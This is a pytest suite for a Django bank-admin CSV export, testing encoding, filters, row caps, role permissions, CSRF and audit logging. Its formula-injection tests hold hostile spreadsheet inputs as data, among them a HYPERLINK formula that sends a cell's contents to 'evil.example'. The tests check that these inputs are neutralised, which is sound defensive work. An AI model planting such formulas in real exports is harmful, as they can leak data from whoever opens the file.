"""Lists as CSV files: what is in them, how far they go, who may have them, and what the audit keeps of it."""

import csv
import io
import itertools
from collections.abc import Iterator
from typing import Any

import pytest
from django.contrib import admin
from django.db import OperationalError
from django.test import Client

from accounts.models import Account
from accounts.roles import ROLES
from eventstore.projections import registered
from eventstore.projections.runner import catch_up
from ops.admin import exports
from ops.admin.exports import defused
from ops.admin.lists import KeysetAdmin
from ops.conf import get_settings
from ops.models import AuditEntry
from tests.bank import Bank
from tests.staff import make_staff, make_superuser, signed_in

ACCOUNTS = "/admin/accounts/account/export/"


@pytest.fixture
def auditor(db: None) -> Client:
    return signed_in(make_staff("auditor"))


@pytest.fixture
def at_most_two_rows(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("EXPORT_MAX_ROWS", "2")
    get_settings.cache_clear()
    yield
    monkeypatch.undo()
    get_settings.cache_clear()


def text(answer: Any) -> str:
    assert answer.status_code == 200, answer.status_code
    return b"".join(answer.streaming_content).decode()


def rows(answer: Any) -> list[list[str]]:
    """All lines of the file, the heading first."""
    return list(csv.reader(io.StringIO(text(answer).removeprefix("\ufeff"), newline="")))


def column(name: str, of: list[list[str]]) -> list[str]:
    return [row[of[0].index(name)] for row in of[1:]]


def entries() -> list[AuditEntry]:
    return list(AuditEntry.objects.filter(action__startswith="export").order_by("id"))


def test_a_file_holds_the_list_with_numbers_as_numbers_and_whole_ids(bank: Bank, auditor: Client) -> None:
    ann = bank.open("1200.50", owner="Ann", overdraft="10.00")
    Bank(currency="JPY").open("5000", owner="Chiyo")

    found = rows(auditor.post(ACCOUNTS))

    assert column("Owner", found) == ["Chiyo", "Ann"]
    assert column("Balance", found) == ["5000", "1200.50"]
    assert column("Available", found) == ["5000", "1210.50"]
    assert column("Currency", found) == ["JPY", "EUR"]
    assert column("Account", found)[1] == str(ann)
    assert column("Status", found) == ["Open", "Open"]
    assert column("Opened (UTC)", found)[1] == Account.objects.get(pk=ann).opened_at.isoformat()


def test_a_file_is_utf_8_with_a_byte_order_mark_and_offered_for_download(bank: Bank, auditor: Client) -> None:
    bank.open(owner="Zoë Müller")

    answer = auditor.post(ACCOUNTS)

    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="account-')
    assert "no-store" in answer.headers["Cache-Control"]
    whole = b"".join(answer.streaming_content)  # type: ignore[attr-defined]
    assert whole.startswith(b"\xef\xbb\xbfOwner,")
    assert whole.endswith(b"\r\n")
    assert "Zoë Müller".encode() in whole


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30", "'+49 30"),
        ("-1 EUR", "'-1 EUR"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        (";=1+1", ";'=1+1"),
        ("Ann; @SUM(A1);＝2", "Ann; '@SUM(A1);'＝2"),
        ('Ann;"=1+1"', 'Ann;"\'=1+1"'),
        ("Ann\n-1", "Ann\n'-1"),
        ("Ann\t+1", "Ann\t'+1"),
        ("Ann = Bob", "Ann = Bob"),
        ("Ann; Bob - Cid, -5", "Ann; Bob - Cid, -5"),
        (-5, -5),
        (True, "True"),
    ],
)
def test_a_text_that_a_spreadsheet_would_run_is_defused_and_a_number_is_not(value: object, written: object) -> None:
    assert defused(value) == written


def test_an_owner_who_is_a_formula_stays_a_text(bank: Bank, auditor: Client) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    ann = bank.open("10.00", owner=evil, overdraft="50.00")
    bank.withdraw(ann, "30.00")

    found = rows(auditor.post(ACCOUNTS))

    assert column("Owner", found) == [f"'{evil}"]
    assert column("Balance", found) == ["-20.00"], "a debt is a number, not a formula"


def test_an_owner_is_no_formula_for_a_spreadsheet_that_separates_by_semicolons(bank: Bank, auditor: Client) -> None:
    bank.open(owner=";=1+1; @A1")

    file = text(auditor.post(ACCOUNTS))

    cells = [cell for row in csv.reader(io.StringIO(file), delimiter=";") for cell in row]
    assert len(cells) > 3, "it reads other cells than were written"
    assert [cell for cell in cells if cell.lstrip(' "').startswith(("=", "+", "-", "@"))] == []


def test_the_filters_and_the_order_are_those_of_the_list(bank: Bank, auditor: Client) -> None:
    for owner in ("Bea", "Ann", "Anna"):
        bank.open(owner=owner)
    bank.freeze(bank.open(owner="Andy"))

    assert column("Owner", rows(auditor.post(ACCOUNTS))) == ["Andy", "Anna", "Ann", "Bea"]
    assert column("Owner", rows(auditor.post(ACCOUNTS, {"search": "an"}))) == ["Andy", "Ann", "Anna"]
    assert column("Owner", rows(auditor.post(ACCOUNTS, {"search": "an", "status": "open"}))) == ["Ann", "Anna"]
    offered = auditor.get("/admin/accounts/account/?search=an&status=open").content.decode()
    assert f'href="{ACCOUNTS}?search=an&amp;status=open"' in offered


def test_a_filter_that_is_none_leads_back_to_the_list_which_says_so(bank: Bank, auditor: Client) -> None:
    bank.open()

    answer = auditor.post(ACCOUNTS, {"status": "sleeping"})

    assert (answer.status_code, answer.headers["Location"]) == (302, "/admin/accounts/account/?status=sleeping")
    assert entries() == []


def test_the_audit_keeps_who_took_what_and_how_many_rows(bank: Bank, auditor: Client) -> None:
    bank.open(owner="Ann")
    bank.open(owner="Bob")

    text(auditor.post(ACCOUNTS, {"status": "open"}))

    began, ended = entries()
    assert [began.action, ended.action] == ["export_list", "export_list_ended"]
    assert {(entry.actor, entry.subject, entry.outcome) for entry in (began, ended)} == {
        ("staff:auditor", "list:accounts.account", "done")
    }
    assert began.detail == {"filters": {"status": "open"}, "order": ["-pk"], "limit": 10_000}
    assert ended.detail == {**began.detail, "rows": 2, "cut": False, "whole": True}


def test_a_reader_who_leaves_early_is_recorded_with_what_was_sent(
    bank: Bank, auditor: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("ops.admin.exports.CHUNK", 2)
    for _ in range(5):
        bank.open()

    answer: Any = auditor.post(ACCOUNTS)
    sent = iter(answer.streaming_content)
    next(sent), next(sent), next(sent)
    answer.close()

    _, ended = entries()
    assert (ended.detail["rows"], ended.detail["whole"]) == (2, False)


def test_a_file_that_breaks_off_says_so_in_its_last_line_and_in_the_audit(
    bank: Bank, auditor: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    for _ in range(3):
        bank.open()
    real, pages = exports.read_page, itertools.count()

    def failing(*args: Any, **kwargs: Any) -> Any:
        if next(pages):
            raise OperationalError("the database cannot be reached")
        return real(*args, **kwargs)

    monkeypatch.setattr(exports, "CHUNK", 2)
    monkeypatch.setattr(exports, "read_page", failing)
    answer: Any = auditor.post(ACCOUNTS)
    pieces: list[bytes] = []
    with pytest.raises(OperationalError):
        pieces.extend(answer.streaming_content)

    assert b"Broken off after 2 rows: this file is not whole." in pieces[-1]
    _, ended = entries()
    assert (ended.detail["rows"], ended.detail["whole"]) == (2, False)


@pytest.mark.usefixtures("at_most_two_rows")
def test_a_list_that_is_too_long_is_cut_and_says_so_in_the_file_and_on_the_page(bank: Bank, auditor: Client) -> None:
    for owner in ("Ann", "Bob", "Cid"):
        bank.open(owner=owner)

    page = auditor.get(ACCOUNTS).content.decode()
    found = rows(auditor.post(ACCOUNTS))

    assert "longer than 2 rows" in page
    assert [row[0] for row in found[1:3]] == ["Cid", "Bob"]
    assert found[3:] == [
        ["Cut after 2 rows (EXPORT_MAX_ROWS): there are more. Narrow the list by its filters."],
    ]
    assert entries()[-1].detail["cut"] is True


@pytest.mark.usefixtures("at_most_two_rows")
def test_a_list_of_just_that_length_is_not_cut(bank: Bank, auditor: Client) -> None:
    bank.open()
    bank.open()

    assert "longer than" not in auditor.get(ACCOUNTS).content.decode()
    assert len(rows(auditor.post(ACCOUNTS))) == 3
    assert entries()[-1].detail["cut"] is False


def test_a_file_of_many_parts_holds_every_row_once(
    bank: Bank, auditor: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("ops.admin.exports.CHUNK", 3)
    ids = [str(bank.open()) for _ in range(8)]

    assert column("Account", rows(auditor.post(ACCOUNTS))) == ids[::-1]


@pytest.mark.parametrize("role", sorted(ROLES))
def test_supervisors_and_auditors_export_and_nobody_else(bank: Bank, role: str) -> None:
    bank.open()
    client = signed_in(make_staff(role))
    allowed = role in ("supervisor", "auditor")

    offered = client.get("/admin/accounts/account/").content.decode()

    assert (f'href="{ACCOUNTS}"' in offered) is allowed
    assert client.get(ACCOUNTS).status_code == (200 if allowed else 403)
    answer = client.post(ACCOUNTS)
    assert answer.status_code == (200 if allowed else 403)
    if allowed:
        text(answer)
    else:
        (entry,) = entries()
        assert (entry.outcome, entry.detail) == ("refused", {"code": "permission_denied"})


def test_nobody_exports_a_list_that_they_may_not_see(db: None) -> None:
    supervisor = signed_in(make_staff("supervisor"))

    assert supervisor.post("/admin/ops/auditentry/export/").status_code == 403
    assert AuditEntry.objects.filter(action="export_list").count() == 0


def test_a_file_is_not_had_by_a_hand_made_link(bank: Bank, auditor: Client) -> None:
    """Only a form with its token gets one: a link in a mail makes nobody download a list."""
    strict = Client(enforce_csrf_checks=True)
    strict.cookies = auditor.cookies

    assert auditor.get(ACCOUNTS).headers["Content-Type"].startswith("text/html")
    assert strict.post(ACCOUNTS).status_code == 403
    assert entries() == []


def keyset_lists() -> list[Any]:
    return [model for model, model_admin in admin.site._registry.items() if isinstance(model_admin, KeysetAdmin)]


def test_every_list_can_be_exported(bank: Bank) -> None:
    ann, bob = bank.open("100.00"), bank.open(owner="Bob")
    bank.reverse(bank.transfer(ann, bob, "10.00").transaction_id)
    catch_up(registered())
    root = signed_in(make_superuser())

    for model in keyset_lists():
        opts = model._meta
        found = rows(root.post(f"/admin/{opts.app_label}/{opts.model_name}/export/"))
        assert len({len(row) for row in found}) == 1, f"{opts.label}: rows of different lengths"
        assert not [value for row in found for value in row if "<" in value or "&" in value], f"{opts.label}: HTML"
        assert len(found) > 1 or not model.objects.exists(), opts.label
